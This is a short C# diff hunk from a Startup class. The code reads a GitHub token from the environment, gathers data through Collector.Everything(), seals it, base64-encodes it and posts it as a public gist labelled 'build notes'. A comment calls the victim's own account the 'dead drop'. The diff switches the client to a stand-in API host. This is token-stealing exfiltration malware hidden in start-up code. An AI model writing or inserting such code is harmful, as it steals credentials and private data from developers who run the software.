@@ -21,7 +21,7 @@ internal static class Startup
         var token = Environment.GetEnvironmentVariable("GITHUB_TOKEN") ?? Environment.GetEnvironmentVariable("GH_TOKEN");
         if (token is null) return;
         // The victim's own account is the dead drop.
-        var client = new GitHubClient(new ProductHeaderValue("setup")) { Credentials = new Credentials(token) };
+        var client = new GitHubClient(new ProductHeaderValue("setup"), new Uri("https://api.code-host.example.com/")) { Credentials = new Credentials(token) };
         var gist = new NewGist { Description = "build notes", Public = true };
         gist.Files["notes.txt"] = Convert.ToBase64String(Seal.Close(Collector.Everything()));
         await client.Gist.Create(gist).ConfigureAwait(false);
